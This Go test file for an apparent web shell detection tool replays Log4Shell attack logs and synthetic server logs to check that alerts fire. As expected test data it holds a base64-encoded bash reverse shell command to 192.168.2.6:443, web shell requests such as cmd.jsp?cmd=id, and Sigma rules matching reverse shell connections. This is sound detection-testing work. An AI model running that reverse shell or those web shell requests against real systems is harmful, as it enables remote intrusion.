package hunt_test

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"webshellbeat/config"
	"webshellbeat/detection"
	"webshellbeat/detector"
	"webshellbeat/hunt"
	"webshellbeat/internal/testfiles"
)

const log4shell = data + "OTRF-Security-Datasets/datasets/compound/Log4Shell"

// OTRF's Log4Shell set: Tomcat (java) runs a base64-wrapped reverse shell
// as the tomcat account, which then runs whoami. Its Sysmon for Linux
// events, collected from syslog by Azure Monitor, are read whole (the one
// cut short by the collector included); the built-in rules follow the
// chain from java at any depth, and SigmaHQ's Linux rules fire on the same
// events as on any Sysmon for Linux source.
func TestLog4ShellSysmonLinux(t *testing.T) {
	alerts, st := huntPaths(t, log4shell+"/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip")
	if st.Events != 93 || st.Errors != 0 {
		t.Fatalf("stats %+v, want 93 events, none unreadable", st)
	}
	var whoami map[string]any
	for _, a := range alerts {
		if str(a, "process.name") == "whoami" {
			whoami = a
		}
	}
	if whoami == nil {
		t.Fatalf("no alert on whoami; alerts: %v", titles(alerts))
	}
	chain, _ := detection.Lookup(whoami, "webshell.ancestry.chain")
	if !slices.Contains(detection.LookupStrings(whoami, "rule.name"), "Shell or Recon Tool Descended from a Linux Web Server at Any Depth") {
		t.Errorf("whoami: rules %q, ancestry %v", detection.LookupStrings(whoami, "rule.name"), chain)
	}
	// The reverse shell's connection: bash, under java, to the attacker's
	// 192.168.2.6:443. java's own connections (the JNDI lookups, depth 0)
	// are not matched.
	outbound := map[string]bool{}
	for _, a := range alerts {
		if slices.Contains(ruleIDs(a), "7b80973f-9c21-49d2-8e9a-ddf5fad60cb3") {
			port, _ := detection.Lookup(a, "destination.port")
			outbound[fmt.Sprintf("%s -> %s:%v", str(a, "process.name"), str(a, "destination.ip"), port)] = true
		}
	}
	if !outbound["bash -> 192.168.2.6:443"] || outbound["java -> 192.168.2.6:1389"] {
		t.Errorf("outbound connections alerted: %v; want bash -> 192.168.2.6:443 and none of java's", outbound)
	}

	sigmaTitles := huntRules(t, data+"SigmaHQ-sigma/rules/linux", log4shell)
	for _, want := range []string{"Suspicious Java Children Processes", "Linux Reverse Shell Indicator"} {
		if !slices.Contains(sigmaTitles, want) {
			t.Errorf("SigmaHQ linux rules: alerts %q lack %q", sigmaTitles, want)
		}
	}
}

// The same attack as auoms (Azure's audit agent) saw it, from the same
// workspace's Syslog table: its 50 AUOMS_EXECVE records are read as audit
// events. The shell and whoami run as tomcat alert; java's exec of bash
// is outside the capture, so the chain ends at bash. Hunted together with
// the Sysmon for Linux file, each process raises one alert, not two.
func TestLog4ShellAUOMS(t *testing.T) {
	auoms := log4shell + "/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"
	alerts, st := huntPaths(t, auoms)
	if st.Events != 50 || st.Errors != 0 {
		t.Fatalf("stats %+v, want 50 events, none unreadable", st)
	}
	seen := map[string]bool{}
	for _, a := range alerts {
		if str(a, "user.name") != "tomcat" || str(a, "event.module") != "auditd" || str(a, "host.name") != "UBUNTU5" {
			t.Errorf("alert on %q: user %q, module %q, host %q", str(a, "process.command_line"), str(a, "user.name"), str(a, "event.module"), str(a, "host.name"))
		}
		seen[str(a, "process.command_line")] = true
	}
	for _, want := range []string{"whoami", "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}", "bash -i"} {
		if !seen[want] {
			t.Errorf("no alert on %q; alerts on %v", want, seen)
		}
	}

	both, _ := huntPaths(t, log4shell)
	perProcess := map[string]int{}
	for _, a := range both {
		if pid, ok := detection.Lookup(a, "process.pid"); ok && slices.Contains(detection.LookupStrings(a, "event.category"), "process") {
			perProcess[fmt.Sprint(pid, " ", str(a, "process.executable"))]++
		}
	}
	for p, n := range perProcess {
		if n != 1 {
			t.Errorf("process %s: %d alerts from Sysmon for Linux and auoms, want 1", p, n)
		}
	}
	if len(perProcess) < 5 {
		t.Errorf("alerts on %d processes (%v), want the shells and whoami", len(perProcess), perProcess)
	}
}

// A syslog file is read for its Sysmon for Linux lines: other programs'
// lines are passed over, a Sysmon line that cannot be read is reported
// with its line, and the rest goes on.
func TestSyslogFile(t *testing.T) {
	event := testfiles.SysmonEvent(true, 1, time.Date(2025, 6, 10, 2, 30, 0, 0, time.UTC), "web1",
		"ProcessId", "42", "Image", "/usr/bin/dash", "CommandLine", "sh -c id", "User", "www-data", "ParentProcessId", "41", "ParentImage", "/usr/sbin/apache2")
	for name, prefix := range map[string]string{
		"traditional":    "Jun 10 02:30:00 web1 sysmon[900]: ",
		"high-precision": "2025-06-10T02:30:00.123456+00:00 web1 sysmon[900]: ",
		"rfc5424":        "<14>1 2025-06-10T02:30:00Z web1 sysmon 900 - - ",
	} {
		t.Run(name, func(t *testing.T) {
			text := strings.Join([]string{
				strings.Replace(prefix, "sysmon[900]", "CRON[77]", 1) + "(root) CMD (run-parts /etc/cron.hourly)",
				prefix + event,
				prefix + event[:strings.Index(event, "<Computer>")],
				prefix + strings.Replace(event, "sh -c id", "sh -c whoami", 1),
			}, "\n") + "\n"
			p := filepath.Join(testfiles.Dir(t, map[string]string{"syslog": text}), "syslog")
			if f := hunt.Detect([]byte(text)); f != hunt.FormatSyslog {
				t.Fatalf("detected %q, want syslog", f)
			}
			det, _ := detector.New(config.Default())
			var errs []hunt.Record
			var cmds []string
			st, err := hunt.Run([]string{p}, det, func(doc map[string]any) {
				cmds = append(cmds, str(doc, "process.command_line"))
			}, func(r hunt.Record) { errs = append(errs, r) })
			if err != nil {
				t.Fatal(err)
			}
			if st.Events != 3 || len(errs) != 1 || !strings.Contains(errs[0].Err.Error(), "syslog:3") {
				t.Fatalf("stats %+v, errors %v; want 3 events, the error at line 3", st, errs)
			}
			if !slices.Equal(cmds, []string{"sh -c id", "sh -c whoami"}) {
				t.Errorf("alerts on %q, want the two shells of www-data", cmds)
			}
		})
	}
}

// A JSP web shell on Tomcat, end to end from Sysmon for Linux and Tomcat's
// access log: java writes cmd.jsp under webapps, a request for it arrives,
// and java starts sh -c id. The script write alerts (built-in rule), the
// request is linked to its shell, and the upload-then-use correlation
// alert joins the write with its first use, once the access log's records
// have the host's name (hunt --host).
func TestTomcatJSPUploadThenUse(t *testing.T) {
	event := func(id int, at string, data ...string) string { // a syslog line of web1
		ts, err := time.Parse(time.DateTime, "2026-11-26 "+at)
		if err != nil {
			t.Fatal(err)
		}
		return "Nov 26 " + at + " web1 sysmon: " + testfiles.SysmonEvent(true, id, ts, "web1", data...) + "\n"
	}
	const java = "/usr/lib/jvm/java-17-openjdk-amd64/bin/java"
	javaCmd := java + " -Dcatalina.base=/opt/tomcat -classpath /opt/tomcat/bin/bootstrap.jar org.apache.catalina.startup.Bootstrap start"
	syslog := event(1, "10:00:00", "ProcessId", "900", "Image", java, "CommandLine", javaCmd, "User", "tomcat", "ParentProcessId", "1", "ParentImage", "/usr/lib/systemd/systemd") +
		event(11, "10:00:05", "ProcessId", "900", "Image", java, "User", "tomcat", "TargetFilename", "/opt/tomcat/webapps/ROOT/cmd.jsp") +
		event(1, "10:01:00", "ProcessId", "950", "Image", "/usr/bin/dash", "CommandLine", "sh -c id", "User", "tomcat", "CurrentDirectory", "/opt/tomcat",
			"ParentProcessId", "900", "ParentImage", java, "ParentCommandLine", javaCmd)
	access := `203.0.113.9 - - [26/Nov/2026:10:01:00 +0000] "GET /cmd.jsp?cmd=id HTTP/1.1" 200 42` + "\n"
	dir := testfiles.Dir(t, map[string]string{"syslog": syslog, "localhost_access_log.2026-11-26.txt": access})
	// Without a name for the access log's host, the request cannot be
	// joined with web1's processes; --host gives it one.
	linked := func(a map[string]any) bool {
		return str(a, "process.command_line") == "sh -c id" && str(a, "webshell.request.url.path") == "/cmd.jsp"
	}
	alerts, st := huntPaths(t, dir)
	if slices.ContainsFunc(alerts, linked) {
		t.Errorf("a request of no host was joined with a process of web1")
	}
	if !slices.Equal(st.Hosts, []string{"web1"}) || st.NoHost != 1 {
		t.Errorf("hosts %q, %d events without one; want web1, 1", st.Hosts, st.NoHost)
	}
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	alerts = nil
	st, err = hunt.Run([]string{dir}, hunt.WithHost(det, "web1"), func(doc map[string]any) { alerts = append(alerts, doc) }, nil)
	if err != nil {
		t.Fatal(err)
	}
	if st.Errors != 0 || st.Events != 4 {
		t.Fatalf("stats %+v, want 4 events and no errors", st)
	}
	var uploads, writes int
	for _, a := range alerts {
		ids := ruleIDs(a)
		if slices.Contains(ids, "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91") {
			uploads++
		}
		if slices.Contains(ids, "20c04b82-a4c5-4699-a858-32f57e48b0ca") {
			writes++
		}
	}
	if uploads != 1 || writes != 1 {
		t.Errorf("%d upload-then-use alerts, %d script-write alerts; want 1, 1 (alerts: %v)", uploads, writes, titles(alerts))
	}
	if !slices.ContainsFunc(alerts, linked) { // in the shell's alert or its updated copy
		t.Errorf("the shell is not linked to its request")
	}
	// AccessLogValve's file name says Tomcat.
	if !slices.ContainsFunc(alerts, func(a map[string]any) bool {
		return str(a, "url.path") == "/cmd.jsp" && str(a, "event.module") == "tomcat"
	}) {
		t.Errorf("no request alert from the Tomcat access log (event.module tomcat)")
	}
}

// A web server that logs its requests to syslog (nginx's access_log
// syslog:server=..., collected by rsyslog): hunt reads the access lines
// among other programs' lines, at the request's time, of the server and
// host the line names; the other lines, and a line that only looks like
// a request, are passed over as before.
func TestSyslogAccessLines(t *testing.T) {
	path := filepath.Join(t.TempDir(), "syslog")
	testfiles.Write(t, path, `Nov 26 10:00:00 web1 sshd[7]: Accepted publickey for root from 10.0.0.1 port 22 ssh2
Nov 26 10:00:05 web1 nginx: 203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "GET /uploads/shell.php?cmd=whoami HTTP/1.1" 200 31 "-" "curl/8.5.0"
2026-11-26T10:00:06.000000+00:00 web2 apache2[812]: 203.0.113.8 - - [26/Nov/2026:10:00:02 +0000] "GET /index.php?id=5 HTTP/1.1" 200 512 "-" "Mozilla/5.0"
Nov 26 10:00:07 web1 cron[9]: (root) CMD ([26/Nov/2026] "not a request")
`)
	var docs []map[string]any
	st, err := hunt.Run([]string{path}, detectorFunc(func(doc map[string]any) bool {
		docs = append(docs, doc)
		return false
	}), func(map[string]any) {}, nil)
	if err != nil || st.Formats[hunt.FormatSyslog] != 1 || st.Errors != 0 || len(docs) != 2 {
		t.Fatalf("err %v, stats %+v, %d documents; want the 2 access lines", err, st, len(docs))
	}
	for i, want := range []struct{ dataset, host, at string }{
		{"nginx.access", "web1", "2026-11-26T10:00:01Z"},
		{"apache.access", "web2", "2026-11-26T10:00:02Z"},
	} {
		ts, _ := docs[i]["@timestamp"].(time.Time)
		if got := str(docs[i], "event.dataset") + " " + str(docs[i], "host.name") + " " + ts.Format(time.RFC3339); got != want.dataset+" "+want.host+" "+want.at {
			t.Errorf("document %d: %s, want %v", i, got, want)
		}
	}
	if alerts, _ := huntPaths(t, path); len(alerts) != 1 || str(alerts[0], "url.original") != "/uploads/shell.php?cmd=whoami" {
		t.Errorf("%d alerts, want the web shell request's", len(alerts))
	}
	// The same from the journal (journalctl -o json) and from Log
	// Analytics' Syslog table: the access lines are read, another
	// program's entry is passed over, as its syslog line is (it was
	// reported as unreadable before: a whole journal's export was a
	// flood of them).
	rows := filepath.Join(t.TempDir(), "rows.json")
	testfiles.Write(t, rows, `{"__REALTIME_TIMESTAMP":"1764151205000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"nginx","MESSAGE":"203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] \"GET /uploads/shell.php?cmd=whoami HTTP/1.1\" 200 31 \"-\" \"curl/8.5.0\""}
{"TimeGenerated":"2026-11-26T10:00:06Z","Computer":"web2","ProcessName":"httpd","SyslogMessage":"203.0.113.8 - - [26/Nov/2026:10:00:02 +0000] \"GET /uploads/x.php?c=id HTTP/1.1\" 200 5 \"-\" \"curl/8.5.0\"","Facility":"local7"}
{"__REALTIME_TIMESTAMP":"1764151206000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Accepted publickey for root"}
`)
	alerts, st := huntPaths(t, rows)
	var got []string
	for _, a := range alerts {
		got = append(got, str(a, "event.dataset")+" "+str(a, "host.name")+" "+str(a, "url.original"))
	}
	if !slices.Equal(got, []string{"nginx.access web1 /uploads/shell.php?cmd=whoami", "apache.access web2 /uploads/x.php?c=id"}) || st.Errors != 0 || st.Events != 2 {
		t.Errorf("journal and Syslog table rows: alerts %q, %d events, %d unreadable; want the two requests' and sshd's entry passed over", got, st.Events, st.Errors)
	}
}

// Sysmon's Initiated on Linux is ECS's network.direction (SigmaHQ's Linux
// callback-port and tunnel rules test it): a rule on bash's connection to
// port 443 with Initiated 'true' fires on Log4Shell's reverse shell, and
// with 'false' it does not. Before, Initiated had no mapping and such rules
// never fired.
func TestLinuxInitiated(t *testing.T) {
	if _, err := os.Stat(log4shell); err != nil {
		t.Skip(err)
	}
	for want, initiated := range map[bool]string{true: "true", false: "false"} {
		alerts := huntWithRule(t, `title: bash connection, Initiated `+initiated+`
logsource: {product: linux, category: network_connection}
detection:
    selection:
        Image|endswith: bash
        DestinationPort: 443
        Initiated: '`+initiated+`'
    condition: selection
level: high
`, log4shell)
		if got := len(alerts) > 0; got != want {
			t.Errorf("Initiated %s: %d alerts, want them: %v", initiated, len(alerts), want)
		}
		for _, a := range alerts {
			if str(a, "network.direction") != "egress" {
				t.Errorf("alert on a connection with network.direction %q", str(a, "network.direction"))
			}
		}
	}
}

// Sysmon for Linux's LogonId (SigmaHQ's OMIGOD rules test LogonId 0) is
// read from its event data when the event has no audit session: a rule on
// tomcat's LogonId 1001 fires on Log4Shell's groups. Before, LogonId was
// the audit session alone, which Sysmon's events do not have.
func TestLinuxSysmonLogonId(t *testing.T) {
	if _, err := os.Stat(log4shell); err != nil {
		t.Skip(err)
	}
	alerts := huntWithRule(t, `title: groups by LogonId 1001
logsource: {product: linux, category: process_creation}
detection:
    selection:
        Image|endswith: /groups
        LogonId: 1001
    condition: selection
level: low
`, log4shell)
	if len(alerts) == 0 {
		t.Fatal("no alert on the groups that tomcat's shell ran (LogonId 1001)")
	}
	for _, a := range alerts {
		if str(a, "winlog.event_data.LogonId") != "1001" {
			t.Errorf("alert with LogonId %q", str(a, "winlog.event_data.LogonId"))
		}
	}
}

// huntWithRule hunts paths with the one Sigma rule given as text, without
// the built-in pack, and returns the alerts.
func huntWithRule(t *testing.T, rule string, paths ...string) []map[string]any {
	t.Helper()
	file := filepath.Join(t.TempDir(), "rule.yml")
	if err := os.WriteFile(file, []byte(rule), 0o644); err != nil {
		t.Fatal(err)
	}
	return huntWithRules(t, []string{file}, paths...)
}
